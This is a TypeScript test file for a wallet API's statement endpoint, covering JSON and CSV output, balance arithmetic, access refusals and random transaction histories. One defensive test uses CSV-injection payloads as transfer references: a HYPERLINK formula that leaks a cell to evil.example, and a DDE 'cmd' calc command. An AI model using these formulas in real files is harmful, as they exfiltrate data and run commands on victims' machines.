/**
 * GET /wallet/{id}/statement (issue 14, section 1): opening balance, lines, closing
 * balance, as JSON and RFC 4180 CSV. The closing balance is always the opening plus the
 * lines, over random histories that include overlapping transactions (a transaction that
 * started first and commits last: created_at order differs from posting-id order).
 */
import { spawn } from 'node:child_process';
import { readFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import fc from 'fast-check';
import { parse as parseCsv } from 'csv-parse/sync';
import { isLosslessNumber, parse as parseLossless, type LosslessNumber } from 'lossless-json';
import { DomainError } from '../../src/domain/errors';
import { postTransaction, type PostingRequest } from '../../src/db/ledger';
import { withTransaction } from '../../src/db/pool';
import { createWallet } from '../../src/db/queries/wallets';
import { STATEMENT_CSV_COLUMNS, STATEMENT_MAX_LINES } from '../../src/api/routes/statements';
import { merchant } from '../helpers/api';
import { expectLedgerExact, newEnvironment, startTestContext, type TestContext } from '../helpers/stack';
import { pythonWithRequests } from '../helpers/python';

let ctx: TestContext;
let m: ReturnType<typeof merchant>;
beforeAll(async () => {
  ctx = await startTestContext();
  m = merchant(ctx, await newEnvironment(ctx.pool, 'statements'));
});
afterEach(async () => expectLedgerExact(ctx.pool));
afterAll(async () => ctx.close());

const pause = (ms: number) => new Promise((r) => setTimeout(r, ms));
/** An exact decimal (JSON number kept as text) → minor units (USD: cents). */
const cents = (v: unknown): bigint => {
  const text = isLosslessNumber(v) ? (v as LosslessNumber).toString() : String(v);
  const [whole, frac = ''] = text.replace('-', '').split('.');
  const abs = BigInt(whole! + frac.padEnd(2, '0'));
  return text.startsWith('-') ? -abs : abs;
};

interface ExactStatement {
  opening: bigint;
  closing: bigint;
  lines: { postingId: string; amount: bigint; balanceAfter: bigint; type: string; counterparty: string | null }[];
}
async function statement(walletId: string, from: Date, to: Date): Promise<ExactStatement> {
  const res = await m.get(`/wallet/${walletId}/statement/`, { env_id: m.envId, from: from.toISOString(), to: to.toISOString() });
  expect(res.status).toBe(200);
  const body = parseLossless(res.text) as Record<string, unknown> & { lines: Record<string, unknown>[] };
  return {
    opening: cents(body.opening_balance),
    closing: cents(body.closing_balance),
    lines: body.lines.map((l) => ({
      postingId: l.posting_id as string,
      amount: cents(l.amount),
      balanceAfter: cents(l.balance_after),
      type: l.type as string,
      counterparty: l.counterparty_wallet_id as string | null,
    })),
  };
}

test('JSON: opening at from, every line with type, signed amount, fee, reference, counterparty and balance after, closing at to', async () => {
  const alice = await m.wallet('alice');
  const bob = await m.wallet('bob');
  await m.topup('alice', alice, '100.00');
  await pause(20);
  const from = new Date();
  await pause(20);
  await m.pay('alice', alice, '30.10', 'book');
  await m.post('/wallet/transfer/', { env_id: Number(m.envId), user_id: 'alice', wallet_id: Number(alice), to_wallet_id: Number(bob), amount: '20.05', reference: 'rent, "march"' });
  await pause(20);
  const to = new Date();
  await pause(20);
  await m.topup('alice', alice, '1.00');

  const res = await m.get(`/wallet/${alice}/statement/`, { env_id: m.envId, user_id: 'alice', from: from.toISOString(), to: to.toISOString() });
  expect(res.status).toBe(200);
  expect(res.body).toMatchObject({ wallet_id: alice, currency: 'USD', from: from.toISOString(), to: to.toISOString(), opening_balance: 100, closing_balance: 49.85 });
  expect(res.body.lines).toEqual([
    expect.objectContaining({ type: 'payment', amount: -30.1, fee: 0, reference: expect.stringMatching(/^order:/), counterparty_wallet_id: null, balance_after: 69.9 }),
    expect.objectContaining({ type: 'transfer', amount: -20.05, fee: 0, reference: 'rent, "march"', counterparty_wallet_id: bob, balance_after: 49.85 }),
  ]);
  for (const l of res.body.lines) expect(l).toEqual(expect.objectContaining({ posting_id: expect.stringMatching(/^[0-9]+$/), transaction_id: expect.stringMatching(/^[0-9]+$/) }));
  // Exact decimals on the wire, never through a float.
  expect(res.text).toContain('"opening_balance":100.00');
  expect(res.text).toContain('"amount":-30.10');
  expect(res.text).toContain('"fee":0.00');

  const bobs = await m.get(`/wallet/${bob}/statement/`, { env_id: m.envId, from: from.toISOString(), to: to.toISOString() });
  expect(bobs.body.lines).toEqual([expect.objectContaining({ type: 'transfer', amount: 20.05, counterparty_wallet_id: alice, balance_after: 20.05 })]);
  expect(bobs.body).toMatchObject({ opening_balance: 0, closing_balance: 20.05 });
});

test('CSV: header row, RFC 4180 quoting, CRLF, exact decimals, opening and closing rows', async () => {
  const carol = await m.wallet('carol');
  const dave = await m.wallet('dave');
  const from = new Date(Date.now() - 1000);
  await m.topup('carol', carol, '10.5');
  const res0 = await m.post('/wallet/transfer/', { env_id: Number(m.envId), user_id: 'carol', wallet_id: Number(carol), to_wallet_id: Number(dave), amount: '0.05', reference: 'a "quoted", split' });
  expect(res0.status).toBe(200);
  await pause(20);
  const to = new Date();
  const res = await m.get(`/wallet/${carol}/statement/`, { env_id: m.envId, from: from.toISOString(), to: to.toISOString(), format: 'csv' });
  expect(res.status).toBe(200);
  expect(res.headers['content-type']).toMatch(/^text\/csv/);
  expect(res.headers['content-disposition']).toMatch(new RegExp(`attachment; filename="statement-${carol}-`));
  expect(res.text.startsWith(STATEMENT_CSV_COLUMNS.join(',') + '\r\n')).toBe(true);
  expect(res.text).toContain(',"a ""quoted"", split",');
  const rows = parseCsv(res.text, { columns: true }) as Record<string, string>[];
  expect(rows.map((r) => [r.type, r.amount, r.fee, r.balance_after, r.counterparty_wallet_id, r.currency])).toEqual([
    ['opening_balance', '', '', '0.00', '', 'USD'],
    ['topup', '10.50', '0.00', '10.50', '', 'USD'],
    ['transfer', '-0.05', '0.00', '10.45', dave, 'USD'],
    ['closing_balance', '', '', '10.45', '', 'USD'],
  ]);
  expect(rows[2]!.reference).toBe('a "quoted", split');
  expect(rows[0]!.created_at).toBe(from.toISOString());
  expect(rows[3]!.created_at).toBe(to.toISOString());
});

test('CSV: a reference a spreadsheet would run as a formula (CSV injection) is written as text, in the receiver\'s statement too', async () => {
  const xena = await m.wallet('xena');
  const yuri = await m.wallet('yuri');
  const from = new Date(Date.now() - 1000);
  await m.topup('xena', xena, '5.00');
  const refs = ['=HYPERLINK("http://evil.example/?x="&A1,"refund")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', 'plain = text'];
  for (const reference of refs) {
    const r = await m.post('/wallet/transfer/', { env_id: Number(m.envId), user_id: 'xena', wallet_id: Number(xena), to_wallet_id: Number(yuri), amount: '0.01', reference });
    expect(r.status).toBe(200);
  }
  await pause(20);
  const to = new Date();
  const res = await m.get(`/wallet/${yuri}/statement/`, { env_id: m.envId, from: from.toISOString(), to: to.toISOString(), format: 'csv' });
  expect(res.status).toBe(200);
  const rows = parseCsv(res.text, { columns: true }) as Record<string, string>[];
  const lines = rows.filter((r) => r.type === 'transfer');
  expect(lines.map((r) => r.reference)).toEqual(["'" + refs[0], "'" + refs[1], "'" + refs[2], "'" + refs[3], refs[4]]);
  // Our own numbers keep their sign; JSON keeps the reference as written.
  const xenas = await m.get(`/wallet/${xena}/statement/`, { env_id: m.envId, from: from.toISOString(), to: to.toISOString(), format: 'csv' });
  expect((parseCsv(xenas.text, { columns: true }) as Record<string, string>[]).filter((r) => r.type === 'transfer').map((r) => r.amount)).toEqual(refs.map(() => '-0.01'));
  const json = await m.get(`/wallet/${yuri}/statement/`, { env_id: m.envId, from: from.toISOString(), to: to.toISOString() });
  expect(json.body.lines.map((l: { reference: string }) => l.reference)).toEqual(refs);
});

test('refusals: from >= to, bad format, missing bounds 422; another user 404; another environment 403', async () => {
  const w = await m.wallet('erin');
  const now = new Date().toISOString();
  for (const query of [{ from: now, to: now }, { from: now, to: '2000-01-01T00:00:00Z' }, { from: '2000-01-01T00:00:00Z', to: now, format: 'xml' }, { to: now }, { from: now }, { from: 'yesterday', to: now }]) {
    const res = await m.get(`/wallet/${w}/statement/`, { env_id: m.envId, ...query });
    expect([res.status, res.body.error.code]).toEqual([422, 'invalid_request']);
  }
  const range = { from: '2000-01-01T00:00:00Z', to: now };
  expect((await m.get(`/wallet/${w}/statement/`, { env_id: m.envId, user_id: 'someone-else', ...range })).status).toBe(404);
  const other = await newEnvironment(ctx.pool, 'other');
  expect((await m.get(`/wallet/${w}/statement/`, { env_id: other.envId, ...range })).status).toBe(403);
});

test(`a range of more than ${STATEMENT_MAX_LINES} lines is refused with 422 statement_too_large; shorter ranges chain exactly`, async () => {
  const w = await m.wallet('frank');
  const N = STATEMENT_MAX_LINES + 1;
  // Seeded set-wise (as test/api/history.test.ts): N topups of 1..N cents, one transaction,
  // so they share created_at; the ledger invariants after the test vouch for the rows.
  await withTransaction(ctx.pool, async (client) => {
    await client.query(
      `with txs as (
         insert into ledger_transactions (idempotency_id, env_id, type, currency, amount)
         select 'statement-seed-' || $2::text || '-' || g, $1, 'topup', 'USD', g from generate_series(1, $3::int) g
         returning id, amount
       ), wallet_legs as (
         insert into ledger_postings (transaction_id, env_id, currency, account, wallet_id, amount, balance_after)
         select id, $1, 'USD', 'wallet', $2::bigint, amount, amount * (amount + 1) / 2 from (select * from txs order by id) t
       )
       insert into ledger_postings (transaction_id, env_id, currency, account, amount)
       select id, $1, 'USD', 'funding', -amount from txs`,
      [m.envId, w, N],
    );
    await client.query('update wallets set balance = balance + $2 where id = $1', [w, (N * (N + 1)) / 2]);
    await client.query(`update environment_funding set used = used + $2 where env_id = $1 and currency = 'USD'`, [m.envId, (N * (N + 1)) / 2]);
  });
  await pause(20);
  await m.pay('frank', w, '1.00');
  const t = (await ctx.pool.query<{ at: Date }>('select max(created_at) as at from ledger_postings where wallet_id = $1', [w])).rows[0]!.at;
  const to = new Date(t.getTime() + 1000);
  const refused = await m.get(`/wallet/${w}/statement/`, { env_id: m.envId, from: '2000-01-01T00:00:00Z', to: to.toISOString(), format: 'csv' });
  expect(refused.status).toBe(422);
  expect(refused.body.error).toMatchObject({ code: 'statement_too_large', details: { max_lines: STATEMENT_MAX_LINES } });
  // The last payment alone, after the seeded transaction's instant.
  const tail = await statement(w, new Date(t.getTime()), to);
  expect(tail.lines.map((l) => l.amount)).toEqual([-100n]);
  expect(tail.opening).toBe(BigInt((N * (N + 1)) / 2));
  expect(tail.closing).toBe(tail.opening - 100n);
});

// ---------------------------------------------------------------------------------------
// Property: over random histories (postTransaction, with overlapping transactions), every
// statement adds up, consecutive statements chain, and nothing is lost or counted twice.

type Move = { kind: 'topup' | 'payment' | 'out' | 'in'; amount: number; overlap: boolean };
const moveArb = fc.record({
  kind: fc.constantFrom<Move['kind']>('topup', 'topup', 'payment', 'out', 'in'),
  amount: fc.integer({ min: 1, max: 50_000 }),
  overlap: fc.boolean(),
});
let seq = 0;

function request(kind: Move['kind'], wallet: string, other: string, amount: bigint): PostingRequest {
  const base = { idempotencyId: `statement-prop-${++seq}`, envId: m.envId, currency: 'USD' as const, amount, requireActive: true };
  switch (kind) {
    case 'topup':
      return { ...base, type: 'topup', legs: [{ account: 'wallet', walletId: wallet, amount }, { account: 'funding', amount: -amount }] };
    case 'payment':
      return { ...base, type: 'payment', legs: [{ account: 'wallet', walletId: wallet, amount: -amount }, { account: 'revenue', amount }] };
    case 'out':
      return { ...base, type: 'transfer', legs: [{ account: 'wallet', walletId: wallet, amount: -amount }, { account: 'wallet', walletId: other, amount }] };
    case 'in':
      return { ...base, type: 'transfer', legs: [{ account: 'wallet', walletId: other, amount: -amount }, { account: 'wallet', walletId: wallet, amount }] };
  }
}

/** Posts one movement; a refusal for funds is part of a random history (nothing posted). */
async function post(req: PostingRequest, during?: () => Promise<void>): Promise<void> {
  const client = await ctx.pool.connect();
  try {
    await client.query('begin');
    await client.query('select now()'); // the transaction's start: its postings' created_at
    if (during) await during(); // another movement starts and commits meanwhile
    await postTransaction(client, req);
    await client.query('commit');
  } catch (err) {
    await client.query('rollback');
    if (!(err instanceof DomainError && err.code === 'insufficient_funds')) throw err;
  } finally {
    client.release();
  }
}

test('property: closing = opening + the lines, statements chain, every posting once (random histories, overlapping transactions)', async () => {
  let sawOverlap = false;
  await fc.assert(
    fc.asyncProperty(
      fc.array(moveArb, { minLength: 1, maxLength: 8 }),
      fc.array(fc.nat(), { minLength: 3, maxLength: 3 }),
      async (moves, picks) => {
        const wallet = (await createWallet(ctx.pool, m.envId, `prop-${++seq}`, 'USD')).wallet.id;
        const other = (await createWallet(ctx.pool, m.envId, `prop-${++seq}`, 'USD')).wallet.id;
        await post(request('topup', other, wallet, 1_000_000n));
        const before = new Date(Date.now() - 5);
        for (let i = 0; i < moves.length; i++) {
          const mv = moves[i]!;
          const next = moves[i + 1];
          const req = request(mv.kind, wallet, other, BigInt(mv.amount));
          if (mv.overlap && next) {
            // This movement starts first; the next one starts and commits inside it.
            await post(req, () => post(request(next.kind, wallet, other, BigInt(next.amount))));
            i++;
          } else {
            await post(req);
          }
        }
        // Times in microseconds as Postgres holds them (a Date would round some to the ms below).
        const { rows: raw } = await ctx.pool.query<{ id: string; amount: string; us: string }>(
          'select id, amount, (extract(epoch from created_at) * 1000000)::bigint::text as us from ledger_postings where wallet_id = $1 order by id',
          [wallet],
        );
        const rows = raw.map((r) => ({ ...r, us: BigInt(r.us) }));
        const ms = (us: bigint) => Number(us / 1000n);
        const byTime = [...rows].sort((x, y) => (x.us < y.us ? -1 : x.us > y.us ? 1 : Number(x.id) - Number(y.id)));
        if (byTime.some((r, k) => r.id !== rows[k]!.id)) sawOverlap = true;
        // Cut points: around the postings' instants (ms), before all and after all.
        const instants = [before.getTime(), ...rows.map((r) => ms(r.us)), Date.now() + 1000];
        const candidates = [...new Set(instants.flatMap((t) => [t - 1, t, t + 1]))].sort((a, b) => a - b);
        const cuts = picks.map((p) => candidates[p % candidates.length]!).sort((a, b) => a - b);
        const [a, b, c] = [new Date(cuts[0]!), new Date(Math.max(cuts[1]!, cuts[0]! + 1)), new Date(Math.max(cuts[2]!, cuts[1]! + 2, cuts[0]! + 2))];

        const ab = await statement(wallet, a, b);
        const bc = await statement(wallet, b, c);
        const ac = await statement(wallet, a, c);
        for (const s of [ab, bc, ac]) {
          const sum = s.lines.reduce((acc, l) => acc + l.amount, 0n);
          expect(s.closing).toBe(s.opening + sum);
          let running = s.opening;
          for (const l of s.lines) {
            running += l.amount;
            expect(l.balanceAfter).toBe(running);
          }
        }
        expect(bc.opening).toBe(ab.closing);
        expect(ac.lines.map((l) => l.postingId)).toEqual([...ab.lines, ...bc.lines].map((l) => l.postingId));
        // Against the postings themselves: the opening counts exactly those before `a`,
        // the lines exactly those in [a, c).
        const usOf = (d: Date) => BigInt(d.getTime()) * 1000n;
        const inRange = byTime.filter((r) => r.us >= usOf(a) && r.us < usOf(c));
        expect(ac.lines.map((l) => l.postingId)).toEqual(inRange.map((r) => r.id));
        const sumBefore = rows.filter((r) => r.us < usOf(a)).reduce((acc, r) => acc + BigInt(r.amount), 0n);
        expect(ac.opening).toBe(sumBefore);
        // From before everything to after everything: 0 → the wallet's balance.
        const all = await statement(wallet, before, new Date(Date.now() + 1000));
        expect(all.opening).toBe(0n);
        expect(all.closing).toBe(BigInt(await m.balance(wallet)));
      },
    ),
    { numRuns: 15 },
  );
  expect(sawOverlap).toBe(true);
});

// README's Statements and Events feed snippets, run as written against the live API (only
// url, secret, the environment and the wallet are this test's), with checks appended.
test("README's Statements and Events feed snippets run against the live API", async () => {
  // Fails (never skips) when no Python with requests is here: npm test installs it.
  const python = pythonWithRequests();
  const readme = readFileSync(join(__dirname, '..', '..', 'README.md'), 'utf8');
  const snippetOf = (heading: string) => /```python\n([\s\S]*?)```/.exec(readme.slice(readme.indexOf(heading)))![1]!;
  const server = ctx.app.listen(0, '127.0.0.1');
  await new Promise((r) => server.once('listening', r));
  try {
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const env = await newEnvironment(ctx.pool, 'readme-statements');
    const mine = merchant(ctx, env);
    const w = await mine.wallet('py');
    await mine.topup('py', w, '12.50');
    const code = [
      'import json, requests',
      `url, secret = ${JSON.stringify(url)}, ${JSON.stringify(env.secret)}`,
      snippetOf('### Statements')
        .replace(/2025-01-01T00:00:00Z/g, '2000-01-01T00:00:00Z')
        .replace(/2025-02-01T00:00:00Z/g, '2100-01-01T00:00:00Z'),
      'assert response.status_code == 200, response.text',
      'assert response.json()["closing_balance"] == response.json()["opening_balance"] + sum(l["amount"] for l in response.json()["lines"])',
      'assert csv_text.startswith("posting_id,transaction_id,created_at,type,amount,fee,reference,counterparty_wallet_id,balance_after,currency\\r\\n"), csv_text',
      snippetOf('### Events feed'),
      'assert response.status_code == 200, response.text',
      'print(json.dumps([response.json()["has_more"], [l["type"] for l in requests.get(f"{url}/events/", headers={"X-Wallet-Signature": secret}, params={"env_id": ' +
        env.envId + '}).json()["events"]]]))',
    ]
      .join('\n')
      .replace(/100000001/g, w)
      .replace(/"env_id": 123/g, `"env_id": ${env.envId}`);
    const out = await new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve) => {
      const child = spawn(python, ['-c', code], { stdio: ['ignore', 'pipe', 'pipe'] });
      let stdout = '';
      let stderr = '';
      child.stdout.on('data', (d) => (stdout += d));
      child.stderr.on('data', (d) => (stderr += d));
      child.on('close', (c) => resolve({ code: c, stdout, stderr }));
    });
    expect(out).toMatchObject({ code: 0, stderr: '' });
    expect(JSON.parse(out.stdout)).toEqual([false, ['wallet.created', 'topup.completed']]);
  } finally {
    server.close();
  }
});
